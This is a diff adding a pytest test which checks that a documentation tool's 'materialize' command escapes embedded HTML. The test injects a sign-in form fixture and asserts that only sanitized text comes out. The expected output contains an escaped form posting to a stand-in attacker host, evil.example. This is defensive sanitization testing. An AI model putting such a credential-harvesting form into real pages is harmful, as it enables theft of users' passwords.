@@ -867,3 +867,17 @@ def _parent_of(pid: int) -> int | None:
     except (FileNotFoundError, IndexError):
         return None
     return int(fields[1])
+
+
+def test_materialized_pages_carry_record_text_only_as_sanitized_html(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from compendium.cli.main import main
+
+    record = (RECORDS / "good" / "minimal.md").read_text(encoding="utf-8")
+    record = record.replace("## Need\nN.", "## Need\n" + PASSWORD_FORM).replace("Golden minimal", "Sign-in")
+    root = fixture_project(tmp_path / "project", {"form.md": record})
+    assert main(["--root", str(root), "materialize", str(tmp_path / "out")]) == 0
+    page = (tmp_path / "out" / "practices" / "form.md").read_text(encoding="utf-8")
+    assert "<form" not in page and "<input" not in page
+    assert "&lt;form/action=https://evil.example/c method=post&gt;" in page
